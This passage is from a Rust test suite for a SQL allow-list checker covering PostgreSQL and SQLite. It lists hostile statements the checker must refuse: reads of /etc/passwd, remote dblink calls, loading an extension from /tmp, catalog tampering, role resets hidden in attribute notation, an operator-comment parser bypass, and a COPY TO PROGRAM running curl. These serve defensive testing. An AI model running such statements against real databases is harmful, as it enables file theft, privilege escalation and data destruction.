            "RESET statement_timeout",
            "RESET ROLE",
            "DO $$ BEGIN PERFORM 1; END $$",
            "CALL p()",
            "GRANT ALL ON users TO PUBLIC",
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
            "CREATE EXTENSION dblink",
            "ALTER TABLE users OWNER TO mallory",
            "DROP SCHEMA public CASCADE",
            "LOAD 'plpgsql'",
            "SELECT dblink('host=elsewhere', 'select 1')",
            "SELECT * FROM dblink('host=elsewhere', 'select 1') AS t(x int)",
            "SELECT lo_import('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "SELECT set_config('statement_timeout', '0', true)",
            "SELECT query_to_xml('select 1', true, true, '')",
            "SELECT pg_terminate_backend(1)",
            "SELECT 1; SELECT 2",
            // Functions in FROM, LATERAL and ROWS FROM.
            "SELECT * FROM pg_read_file('/etc/passwd') AS f(x)",
            "SELECT * FROM users, LATERAL pg_read_file('/etc/passwd') AS f(x)",
            "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) AS f(x)",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT * FROM lo_import('/etc/passwd')",
            // SQL given as text.
            "SELECT database_to_xml(true, true, '')",
            "SELECT table_to_xml('users', true, true, '')",
            "SELECT * FROM ts_stat('select to_tsvector(pg_read_file(''/etc/passwd''))')",
            "SELECT xpath('/x', query_to_xml('select 1', true, true, ''))",
            // Session state.
            "SELECT pg_advisory_unlock_all()",
            "SELECT pg_advisory_unlock(1)",
            "SELECT pg_advisory_lock(1)",
            "SELECT current_setting('role')",
            // Qualified names that could be anyone's function.
            "SELECT public.lower('x')",
            // Catalogs are never written.
            "UPDATE pg_catalog.pg_proc SET prosrc = 'x' WHERE proname = 'lower'",
            "UPDATE pg_proc SET prosrc = 'x'",
            "DELETE FROM pg_catalog.pg_class",
            "INSERT INTO information_schema.x VALUES (1)",
            "DROP TABLE pg_catalog.pg_class",
            // gantry's own records, at any grant.
            "SELECT * FROM gantry_migrations",
            "UPDATE gantry_migrations SET down_script = 'DROP TABLE users'",
            "DELETE FROM gantry_migration_log",
            "SELECT * FROM public.GANTRY_MIGRATIONS",
            "DELETE FROM _sqlx_migrations",
            "DROP TABLE gantry_migrations",
            "ALTER TABLE gantry_migrations ADD COLUMN x int",
            "WITH x AS (SELECT * FROM gantry_migration_log) SELECT * FROM x",
            "SELECT (SELECT down_script FROM gantry_migrations LIMIT 1)",
            // Found in review: a comment inside an operator, where sqlparser
            // and PostgreSQL end the operator differently.
            "SELECT 1 >-- '\n0 AS a, set_config($q$role$q$, $q$none$q$, true) AS x --'",
            "SELECT 1 OPERATOR(pg_catalog.+) 1",
            "SELECT 1 @-@ 2",
            // `TABLE x`, and names in INHERITS, LIKE, REFERENCES, RENAME TO.
            "WITH h AS (TABLE gantry_migrations) SELECT * FROM h",
            "TABLE gantry_migrations",
            "CREATE TABLE e () INHERITS (gantry_migrations)",
            "CREATE TABLE e (LIKE gantry_migrations)",
            "CREATE TABLE e (v bigint REFERENCES gantry_migrations(version))",
            "ALTER TABLE t RENAME TO gantry_migrations",
            "CREATE TEMP TABLE t (x int)",
            "SELECT setval('gantry_migration_log_id_seq', 1, false)",
            "SELECT nextval('public.gantry_migration_log_id_seq')",
            "SELECT nextval(lower('GANTRY_MIGRATION_LOG_ID_SEQ'))",
            "SELECT \"MD5\"('x')",
        ] {
            never(Dialect::Postgres, sql);
        }
        for sql in [
            "ATTACH DATABASE '/tmp/other.db' AS other",
            "DETACH DATABASE other",
            "PRAGMA writable_schema = 1",
            "PRAGMA user_version = 7",
            "PRAGMA journal_mode(OFF)",
            "SELECT load_extension('/tmp/evil.so')",
            "SELECT writefile('/tmp/x', 'y')",
            "VACUUM INTO '/tmp/copy.db'",
            "SELECT * FROM sqlite_master",
            "UPDATE sqlite_master SET sql = 'x'",
            "DELETE FROM gantry_migration_log",
            "SELECT 1; ATTACH DATABASE 'x' AS y",
            "CREATE TEMP TABLE t (x)",
            "ALTER TABLE t RENAME TO gantry_migrations",
        ] {
            never(Dialect::Sqlite, sql);
        }
    }

    /// PostgreSQL's attribute notation calls a function without the call
    /// syntax: `(value).f` is `f(value)`, `t.f` is `f(t)` when there is no
    /// such field or column (found in review: `ts_stat` ran SQL text that
    /// reset the role).
    #[test]
    fn attribute_notation_is_held_to_the_allowlist() {
        for sql in [
            "SELECT (1::bigint).pg_advisory_lock",
            "SELECT ('/etc/hostname'::text).pg_read_file",
            "SELECT ('SELECT to_tsvector(set_config(''role'', ''none'', true))'::text).ts_stat AS a",
            "SELECT ((1)).pg_cancel_backend",
            "SELECT (x).\"ts_stat\" FROM (SELECT 'select 1'::text AS x) AS s",
            "SELECT (u).Pg_Read_File FROM users AS u",
            "SELECT ((7449356705063333223::bigint)).pg_advisory_unlock",
        ] {
            never_because(Ddl, sql, &Reserved::default(), "PostgreSQL reads");
        }
        // A function the allowlist admits is admitted either way.
        ok(Dialect::Postgres, SqlGrant::Read, "SELECT ('X'::text).lower");
        ok(Dialect::Postgres, SqlGrant::Read, "SELECT u.email, u.name FROM users AS u");
        // A whole row goes to the functions the database has for rows: read
        // from its catalog when a call is confined.
        let reserved = Reserved::default().with_functions(AttributeFunctions {
            of_rows: ["grant_admin", "to_json"].map(String::from).into(),
            unary: ["grant_admin", "to_json", "ts_stat", "pg_advisory_lock", "pg_read_file", "name"]
                .map(String::from)
                .into(),
        });
        let refused = check(
            Dialect::Postgres,
            SqlGrant::Ddl,
            "SELECT u.grant_admin FROM users AS u",
            &reserved,
        );
        assert!(
            matches!(&refused, Err(Refusal::Never(why)) if why.contains("u.grant_admin")),
            "{refused:?}"
        );
        assert!(
            check(Dialect::Postgres, SqlGrant::Read, "SELECT public.users.grant_admin FROM public.users", &reserved)
                .is_err()
        );
        for sql in [
            "SELECT u.to_json FROM users AS u",
            "SELECT u.email FROM users AS u",
            "SELECT u.name, u.tags[1] FROM users AS u",
            "SELECT e.key, e.value FROM users AS u, jsonb_each(u.doc) AS e",
            "SELECT v.name FROM (SELECT 1 AS name) AS v",
            "WITH c AS (SELECT 1 AS name) SELECT c.name FROM c",
            "SELECT users.name FROM users",
        ] {
            assert!(check(Dialect::Postgres, SqlGrant::Read, sql, &reserved).is_ok(), "{sql}");
        }
        for sql in [
            "INSERT INTO users (name) VALUES ('x') RETURNING users.name",
            "INSERT INTO users (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = excluded.name",
        ] {
            let checked = check(Dialect::Postgres, SqlGrant::Write, sql, &reserved);
            assert!(checked.is_ok(), "{sql}: {checked:?}");
        }
        // A function returning one value: its name is that value, and
        // `q.f` is `f(q)` for any function of one argument (found in
        // review).
        for sql in [
            "SELECT q.ts_stat FROM UNNEST(ARRAY['select 1']) AS q",
            "SELECT unnest.ts_stat FROM unnest(ARRAY['select 1'])",
            "SELECT g.pg_advisory_lock FROM generate_series(4242::bigint, 4242::bigint) AS g",
            "SELECT t.ts_stat FROM users AS u, LATERAL string_to_table(u.email, ',') AS t",
            "SELECT x.name FROM regexp_split_to_table('a', ',') AS x",
            // PostgreSQL names an item otherwise than it is written (found
            // in a second review): `trim` is `btrim`, a value keyword is a
            // function's value.
            "SELECT btrim.ts_stat FROM trim('select 1')",
            "SELECT u.pg_read_file FROM current_user AS u",
            "SELECT current_user.ts_stat FROM current_user",
            "SELECT d.ts_stat FROM users AS u, LATERAL trim(u.email) AS t, current_date AS d",
            "SELECT nowhere.ts_stat FROM users AS u",
        ] {
            never_because(Ddl, sql, &reserved, "PostgreSQL reads");
        }
        never_because(
            SqlGrant::Read,
            "SELECT $1$x$1$",
            &Reserved::default(),
            "dollar-quote tag",
        );
        ok(Dialect::Postgres, SqlGrant::Read, "SELECT $a$x$a$, $$y$$");
        // PostgreSQL cuts names to 63 bytes: a 64-byte alias would be
        // another name here and the same name there.
        let a63 = "a".repeat(63);
        let sql = format!(
            "WITH {a63} AS (SELECT 1) SELECT (SELECT {a63}.ts_stat FROM unnest(ARRAY['select 1']) AS {a63}b) FROM {a63}"
        );
        never_because(SqlGrant::Read, &sql, &Reserved::default(), "63 bytes");
        ok(Dialect::Postgres, SqlGrant::Read, &format!("SELECT 1 AS {a63}"));
        // A function in FROM goes by the alias it is given, so the check
        // knows its name.
        ok(Dialect::Postgres, SqlGrant::Read, "SELECT x FROM unnest(ARRAY[1]) AS x");
        for sql in [
            "SELECT 1 FROM generate_series(1, 2)",
            "SELECT * FROM unnest(ARRAY[1])",
            "SELECT * FROM users AS u, LATERAL string_to_table(u.email, ',')",
        ] {
            never_because(SqlGrant::Read, sql, &Reserved::default(), "needs an alias");
        }
        // SQLite has no such notation: a qualified name is a column.
        ok(Dialect::Sqlite, SqlGrant::Read, "SELECT u.email FROM users AS u");
    }

    #[test]
    fn the_sqlx_table_is_reserved_by_its_configured_name() {
        let reserved = Reserved::new("app_history");
        assert!(matches!(
            check(Dialect::Sqlite, Ddl, "DELETE FROM app_history", &reserved),
            Err(Refusal::Never(_))
        ));
    }

    #[test]
    fn refusals_name_the_first_words() {
        let reserved = Reserved::default();
        let why = admit(Dialect::Postgres, Ddl, "COPY users TO PROGRAM 'curl http://x'", &reserved)
            .unwrap_err();
        assert!(why.starts_with("`COPY users TO PROGRAM 'curl"), "{why}");
        assert!(why.contains("no sql grant admits it"), "{why}");
        let why = admit(Dialect::Sqlite, Ddl, "ATTACH DATABASE 'x' AS y", &reserved).unwrap_err();
        assert!(why.contains("ATTACH"), "{why}");
    }
}
